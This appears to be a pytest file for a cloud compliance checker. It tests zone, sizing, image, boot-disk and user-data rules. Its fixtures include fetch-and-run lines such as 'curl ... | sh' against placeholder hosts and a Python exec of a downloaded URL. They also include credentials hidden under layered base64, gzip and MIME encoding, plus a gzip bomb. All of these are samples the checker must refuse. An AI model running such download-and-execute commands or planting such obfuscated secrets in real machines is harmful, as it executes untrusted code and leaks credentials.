"""CPT-01, 02, 03, 04, 05: two availability zones, peaks, listed images, and nothing hidden in user data."""

from __future__ import annotations

import base64
import dataclasses
import datetime as dt
import gzip
import json
from typing import Any

import pytest

from blueprint import facts
from blueprint import plan as plans
from blueprint.values import NOT_OBSERVABLE, UNKNOWN, Malformed
from policies.catalogue import loader as catalogues
from policies.context import Index
from policies.rules import userdata
from policies.verdicts import Effect, State
from providers import images
from tests.policies import estate, judging
from tests.policies.cases import CONFORM, IDLE, REFUSED, UNSEEN, Case, check, to, unknown, without

VM = "bubbles/warehouse/tiers/omop/1"
PASSWORD = "Correct-Horse-9-Battery"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def gz(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode())).decode()


CLOUD = f"#cloud-config\npassword: {PASSWORD}\nchpasswd: {{expire: false}}\n"
MIME = (
    'Content-Type: multipart/mixed; boundary="B"\nMIME-Version: 1.0\n\n--B\n'
    f"Content-Type: text/cloud-config\n\n{CLOUD}\n--B--\n"
)
WRITTEN = "#cloud-config\nwrite_files:\n- path: /etc/x\n  encoding: {}\n  content: {}\n"

HIDDEN = {
    "a cloud-init password": CLOUD,
    "the same in base64": b64(CLOUD),
    "the same in base64 twice": b64(b64(CLOUD)),
    "the same in base64 three times": b64(b64(b64(CLOUD))),
    "the same compressed": gz(CLOUD),
    "the same compressed inside base64": b64(gz(CLOUD)),
    "the same in a MIME part": MIME,
    "the same in a MIME part in base64": b64(MIME),
    "a user's password": f"#cloud-config\nusers:\n- name: x\n  plain_text_passwd: {PASSWORD}\n",
    "a user's password hash": "#cloud-config\nusers:\n- name: x\n  passwd: $6$rounds=4096$abc$defghijklmnop\n",
    "a chpasswd list": f"#cloud-config\nchpasswd:\n  list: |\n    root:{PASSWORD}\n",
    "a chpasswd list of lines": f"#cloud-config\nchpasswd:\n  list:\n  - root:{PASSWORD}\n",
    "chpasswd users": f"#cloud-config\nchpasswd:\n  users:\n  - {{name: x, password: {PASSWORD}, type: text}}\n",
    "a numeric password": "#cloud-config\npassword: 12345678\n",
    "a written file": WRITTEN.format("text/plain", f"db_password={PASSWORD}"),
    "a written file in base64": WRITTEN.format("b64", b64(f"db_password={PASSWORD}")),
    "a written file compressed": WRITTEN.format("gz+b64", gz(f"db_password={PASSWORD}")),
    "a written file without its encoding": WRITTEN.format('""', b64(f"db_password={PASSWORD}")),
    "a JSON document": json.dumps({"users": [{"name": "x", "passwd": PASSWORD}]}),
    "a shell variable": f"#!/bin/sh\nexport DB_PASSWORD='{PASSWORD}'\n",
    "a token": "#!/bin/sh\nTOKEN=abcd1234efgh\n",
    "an api key": "#!/bin/sh\nAPI-KEY: abcd1234efgh\n",
    "echo to chpasswd": f"#!/bin/bash\necho 'root:{PASSWORD}' | sudo chpasswd\n",
    "a here-string to chpasswd": f'#!/bin/bash\nchpasswd <<< "root:{PASSWORD}"\n',
    "useradd": "#!/bin/sh\nuseradd -m -p abc123 x\n",
    "a runcmd list": f'#cloud-config\nruncmd:\n- [sh, -c, "mysql --password {PASSWORD}"]\n',
    "a URL": f"#!/bin/sh\npg_dump postgres://u:{PASSWORD}@db/x\n",
    "a private key": "#cloud-config\nssh_keys:\n  rsa_private: |\n    -----BEGIN RSA PRIVATE KEY-----\n    abc\n",
    "a private key in a script": "#!/bin/sh\ncat > k <<E\n-----BEGIN OPENSSH PRIVATE KEY-----\nE\n",
    "a random value": "#!/bin/sh\n./run q8Zr3Kx9Lw2Vt7Yb5Nc1Mf4Hd6Jg0Ps8\n",
    "random hexadecimal": "#!/bin/sh\n./run 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b\n",
    "a download that runs": "#!/bin/sh\ncurl -fsSL https://get.example.org/x.sh | sh\n",
    "a download over two lines": "#!/bin/sh\nwget -O x \\\n https://get.example.org/x.sh\nsh x\n",
    "a download by address": "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n",
    "a download in a command list": "#cloud-config\nruncmd:\n- [curl, -o, x, 'https://get.example.org/x']\n",
    "an include": "#include\nhttps://get.example.org/cloud.yaml\n",
    "a download in Python": "#!/usr/bin/python3\nimport urllib.request as u\nexec(u.urlopen('https://e.org/x').read())\n",
}

PUBLIC_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8Zr3Kx9Lw2Vt7Yb5Nc1M"
HARMLESS = {
    "nothing": "",
    "a package list": "#cloud-config\npackages: [nginx, postgresql]\npackage_update: true\n",
    "a public key": f"#cloud-config\nssh_authorized_keys:\n- {PUBLIC_KEY} a@b\n",
    "a password that is made at boot": "#cloud-config\nchpasswd:\n  list: |\n    root:RANDOM\n",
    "a reference to the vault": "#!/bin/sh\nDB_PASSWORD=${VAULT_PASSWORD}\nTOKEN=$(bao read -field=x secret/x)\n",
    "a file that holds a secret": "#!/bin/sh\nPGPASSFILE=/run/secrets/pgpass\nPASSWORD_FILE=/run/secrets/x\n",
    "locked passwords": "#cloud-config\nusers:\n- name: x\n  lock_passwd: true\nssh_pwauth: false\n",
    "a download from the platform itself": "#!/bin/sh\ncurl http://10.64.81.4/mirror/x | sh\n",
    "a digest": "#!/bin/sh\necho sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n",
    "a long word": "#!/bin/sh\necho systemd-networkd-wait-online-configuration-directory\n",
    "base64 of something harmless": b64("#cloud-config\npackages: [nginx]\n"),
}

SCRIPT = "#cloud-config\npackages: [nginx]\n"


def planned(text: str) -> Index:
    """The sample, where that machine is to be born with that text."""
    plan = estate.plan_of()
    machines = tuple(dataclasses.replace(one, user_data=text) if one.subject == VM else one for one in plan.machines)
    return Index(dataclasses.replace(plan, machines=machines))


FETCH = "#!/bin/sh\ncurl -o x https://get.example.org/x\n"


def allowing(host: str) -> dict[str, Any]:
    numbers = catalogues.load().parameters
    return {**numbers, "CPT-05": {**numbers["CPT-05"], "hosts": [host]}}


USER_DATA = [
    Case("a machine without user data conforms", VM, without("userData"), CONFORM),
    Case("empty user data conforms", VM, to(userData=""), CONFORM),
    Case("unknown user data waits", VM, unknown("userData"), UNSEEN),
    Case("a list for user data is refused", VM, to(userData=["x"]), REFUSED, "wrong type"),
    *(  # planned so, or any text would be refused as another than planned
        Case(f"{name} is seen", VM, to(userData=text), REFUSED, "user data", context={"index": planned(text)})
        for name, text in HIDDEN.items()
    ),
    *(
        Case(f"{name} passes", VM, to(userData=text), CONFORM, context={"index": planned(text)})
        for name, text in HARMLESS.items()
    ),
    Case(
        "planned text in base64 passes", VM, to(userData=b64(b64(SCRIPT))), CONFORM, context={"index": planned(SCRIPT)}
    ),
    Case(
        "a download from an allowed host passes",
        VM,
        to(userData=FETCH),
        CONFORM,
        context={"index": planned(FETCH), "parameters": allowing("get.example.org")},
    ),
    Case(
        "one from another host does not",
        VM,
        to(userData=FETCH),
        REFUSED,
        "user data",
        context={"index": planned(FETCH), "parameters": allowing("other.example.org")},
    ),
    Case("a machine of no plan has no planned text", VM, to(subject="nowhere/1", userData=SCRIPT), CONFORM),
    Case(
        "SSH on another port than planned is refused",
        VM,
        to(userData="#cloud-config\nwrite_files:\n- {path: /etc/ssh/sshd_config.d/x.conf, content: Port 8443}\n"),
        REFUSED,
        "not what the blueprint says",
    ),
    Case("other text than planned is refused", VM, to(userData=SCRIPT), REFUSED, "not what the blueprint says"),
    Case(
        "planned text that is left out is refused",
        VM,
        without("userData"),
        REFUSED,
        "not what the blueprint says",
        context={"index": planned(SCRIPT)},
    ),
]

ZONES = [
    Case("a machine in its planned zone conforms", VM, None, CONFORM),
    Case("the bastion conforms", "bastion/1", None, CONFORM),
    Case(
        "another zone than planned is refused",
        VM,
        to(placementSubregionName="cloudgouv-eu-west-1b"),
        REFUSED,
        "not in the planned a",
    ),
    Case("an unknown zone waits", VM, unknown("placementSubregionName"), UNSEEN),
    Case("no zone is refused", VM, without("placementSubregionName"), REFUSED),
    Case("a number for a zone is refused", VM, to(placementSubregionName=1.0), REFUSED, "wrong type"),
    Case("spaces around a zone change nothing", VM, to(placementSubregionName=" cloudgouv-eu-west-1a"), CONFORM),
    Case("a machine of no plan is refused", VM, to(subject="bubbles/warehouse/tiers/x/1"), REFUSED, "no such machine"),
]


LISTED = images.load("outscale")
IMAGES = [
    Case("the listed image conforms", VM, None, CONFORM),
    Case("an image made up is refused", VM, to(imageId="ami-1"), REFUSED, "another image than Debian-12"),
    Case("another listed image is refused", VM, to(imageId="ami-51bd0013"), REFUSED, "another image"),
    Case("another case is another image", VM, to(imageId="AMI-51BD0012"), REFUSED, "another image"),
    Case("no image is refused", VM, without("imageId"), REFUSED, "another image"),
    Case("an unknown image waits", VM, unknown("imageId"), UNSEEN),
    Case("a list for an image is refused", VM, to(imageId=["ami-51bd0012"]), REFUSED, "wrong type"),
    Case("a machine of no plan is refused", VM, to(subject="bubbles/warehouse/tiers/x/1"), REFUSED, "no such machine"),
    Case("90 days are recent", VM, None, CONFORM, context={"as_of": dt.date(2027, 1, 3)}),
    Case("91 days are not", VM, None, REFUSED, "91 days old", context={"as_of": dt.date(2027, 1, 4)}),
    Case("a word that the list does not have is refused", VM, None, REFUSED, "not in the offer's list",
         context={"images": {}}),
    Case("an image made on an unknown day needs evidence", VM, None, State.EVIDENCE_REQUIRED, "no day on which",
         context={"images": {word: one.model_copy(update={"created": None}) for word, one in LISTED.items()}}),
    Case("a region without ids needs evidence", VM, None, State.EVIDENCE_REQUIRED, "no id", context={"region": "x"}),
    Case("where no id is listed, none at all is refused", VM, without("imageId"), REFUSED, "does not say",
         context={"region": "x"}),
]  # fmt: skip


@pytest.mark.parametrize("case", IMAGES, ids=str)
def test_cpt_03(case: Case) -> None:
    check("CPT-03", case)


ETL = "bubbles/warehouse/tiers/etl"


def _tier_fact(count: int, peak: int | None) -> facts.Tier:
    fact = judging.declared(estate.plan_of(), ETL)
    assert isinstance(fact, facts.Tier)
    assert (fact.count, fact.peak_count) == (4, 3)
    return dataclasses.replace(fact, count=count, peak_count=peak)


@pytest.mark.parametrize(
    ("count", "peak", "state", "says"),
    [
        (4, 3, State.WORKAROUND_ACCEPTED, "size for the peak"),
        (3, 3, REFUSED, "10 % more need 4"),
        (11, 10, State.WORKAROUND_ACCEPTED, ""),
        (22, 20, State.WORKAROUND_ACCEPTED, ""),
        (21, 20, REFUSED, "need 22"),
        (1099, 1000, REFUSED, "need 1100"),
        (4, None, IDLE, ""),
    ],
)
def test_cpt_02(count: int, peak: int | None, state: State, says: str) -> None:
    found = judging.ask(judging.judge_of(estate.plan_of()), "CPT-02", _tier_fact(count, peak))
    assert found.state is state
    assert says in found.message
    assert (found.effect is Effect.WARN) == (state is REFUSED)  # advisory: it warns, and never blocks


def test_a_peak_without_the_declared_workaround_is_refused() -> None:
    plan = estate.plan_of()
    idle = tuple(dataclasses.replace(one, name="TBD") for one in plan.workarounds)
    for declared in ((), idle):
        judge = judging.judge_of(dataclasses.replace(plan, workarounds=declared))
        found = judging.ask(judge, "CPT-02", _tier_fact(4, 3))
        assert (found.state, found.fault) == (REFUSED, False)


@pytest.mark.parametrize("name", ["two regions", "size for the", "Size for the peak, some day"])
def test_another_workaround_of_compute_is_not_the_sizing_one(name: str) -> None:
    plan = estate.plan_of()
    other = tuple(dataclasses.replace(one, name=name) if one.brick == "compute" else one for one in plan.workarounds)
    found = judging.ask(judging.judge_of(dataclasses.replace(plan, workarounds=other)), "CPT-02", _tier_fact(4, 3))
    assert (found.state, found.effect, found.fault) == (REFUSED, Effect.WARN, False)
    assert "`size for the peak`" in found.message


def test_the_sizing_workaround_of_another_brick_is_none_of_compute() -> None:
    plan = estate.plan_of()
    other = tuple(dataclasses.replace(one, brick="storage") for one in plan.workarounds if one.brick == "compute")
    assert other
    found = judging.ask(judging.judge_of(dataclasses.replace(plan, workarounds=other)), "CPT-02", _tier_fact(4, 3))
    assert (found.state, found.fault) == (REFUSED, False)


DISK = "bubbles/warehouse/tiers/omop/1/disks/data"
ROOM = [
    Case("a disk of the planned size conforms", DISK, None, CONFORM),
    Case("a larger one conforms", DISK, to(size=10_000), CONFORM),
    Case("a smaller one is refused", DISK, to(size=1), REFUSED, "it has 1 GiB of the planned"),
    Case("a size as text is a size", DISK, to(size="1"), REFUSED, "it has 1 GiB"),
    Case("no size is refused", DISK, without("size"), REFUSED, "it has 0 GiB"),
    Case("an unknown size waits", DISK, unknown("size"), UNSEEN),
    Case("a list for a size is refused", DISK, to(size=[10]), REFUSED, "wrong type"),
    Case("a disk of no plan is refused", DISK, to(subject=f"{VM}/disks/x"), REFUSED, "no such"),
]


@pytest.mark.parametrize("case", ROOM, ids=str)
def test_cpt_02_what_is_planned_on_a_disk_fits(case: Case) -> None:
    changed = estate.estate_of()
    if case.change is not None:
        case.change(changed[DISK].properties)
    found = judging.say(judging.judge_of(changed.plan), changed, "CPT-02", DISK)
    assert (found.state, found.fault) == (case.state, False), found
    assert case.says in found.message
    if case.state is REFUSED:
        assert found.effect is Effect.WARN  # advisory


BORN = facts.BootDisk(encrypted=True, outlives=False)
EVIDENCE = State.EVIDENCE_REQUIRED


@pytest.mark.parametrize(
    ("boot", "asks", "state", "says"),
    [
        (BORN, False, EVIDENCE, "nothing of a machine's console"),
        (BORN, True, REFUSED, "a service of the network"),
        (BORN, UNKNOWN, UNSEEN, "`asks_network` is not known yet"),
        (BORN, Malformed("true or false"), REFUSED, "wrong type"),
        (None, False, REFUSED, "no volume of its own"),
        (UNKNOWN, False, UNSEEN, "`boot` is not known yet"),
        (dataclasses.replace(BORN, encrypted=False), False, REFUSED, "not encrypted"),
        (dataclasses.replace(BORN, encrypted=UNKNOWN), False, UNSEEN, "`encrypted`"),
        (dataclasses.replace(BORN, outlives=True), False, REFUSED, "stays when it goes"),
        (dataclasses.replace(BORN, outlives=UNKNOWN), False, UNSEEN, "`outlives`"),
        (dataclasses.replace(BORN, outlives=NOT_OBSERVABLE), False, EVIDENCE, "console"),
        (NOT_OBSERVABLE, NOT_OBSERVABLE, EVIDENCE, "console, metadata and own disk"),
        (NOT_OBSERVABLE, False, EVIDENCE, "console, metadata and own disk"),
        (BORN, NOT_OBSERVABLE, EVIDENCE, "console, metadata and own disk"),
    ],
)
def test_cpt_04(boot: Any, asks: Any, state: State, says: str) -> None:
    fact = estate.estate_of().fact(VM)
    assert isinstance(fact, facts.Machine)
    assert (fact.boot, fact.asks_network) == (NOT_OBSERVABLE, NOT_OBSERVABLE)  # Outscale's API has neither
    found = judging.ask(
        judging.judge_of(estate.plan_of()), "CPT-04", dataclasses.replace(fact, boot=boot, asks_network=asks)
    )
    assert (found.state, found.fault) == (state, False), found
    assert says in found.message


def test_declared_peaks_are_somebody_s() -> None:
    plan = estate.plan_of()
    flat = dataclasses.replace(plan, machines=tuple(dataclasses.replace(m, peak_count=None) for m in plan.machines))
    calm = dataclasses.replace(plan, peaks=())

    def state(judged: plans.Plan) -> State:
        return next(one.state for one in judging.judge_of(judged).run() if one.rule == "CPT-02")

    assert (state(plan), state(flat), state(calm)) == (CONFORM, REFUSED, IDLE)


@pytest.mark.parametrize("case", ZONES, ids=str)
def test_cpt_01(case: Case) -> None:
    check("CPT-01", case)


@pytest.mark.parametrize("case", USER_DATA, ids=str)
def test_cpt_05(case: Case) -> None:
    check("CPT-05", case)


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN.keys())
def test_what_is_found_is_never_shown(text: str) -> None:
    changed = estate.estate_of()
    changed[VM].properties["userData"] = text
    message = judging.say(judging.judge_of(changed.plan), changed, "CPT-05", VM).message
    for secret in (
        PASSWORD,
        "abcd1234efgh",
        "12345678",
        "q8Zr3Kx9Lw2Vt7Yb5Nc1Mf4Hd6Jg0Ps8",
        "9f86d081",
        "abc123",
        "$6$",
    ):
        assert secret not in message


def test_user_data_that_is_wrapped_for_ever_is_refused_and_not_followed() -> None:
    text = "x" * 20
    for _ in range(userdata.MAX_DEPTH + 4):
        text = b64(text)
    assert "too deep" in " ".join(userdata.inspect(text, lambda _: True))


def test_a_bomb_is_not_blown_up() -> None:
    bomb = base64.b64encode(gzip.compress(b"a" * (64 << 20))).decode()
    assert userdata.inspect(bomb, lambda _: True)


def test_a_password_in_a_blueprint_is_refused_before_its_machine_is_created() -> None:
    changed = estate.estate_of("password-in-user-data")
    judge = judging.judge_of(changed.plan)
    blocking = [
        one for name in changed.resources for one in judge.resource(changed.fact(name)) if one.effect == "block"
    ]
    assert {(one.rule, one.type) for one in blocking} == {("CPT-05", "outscale:index:Vm")}
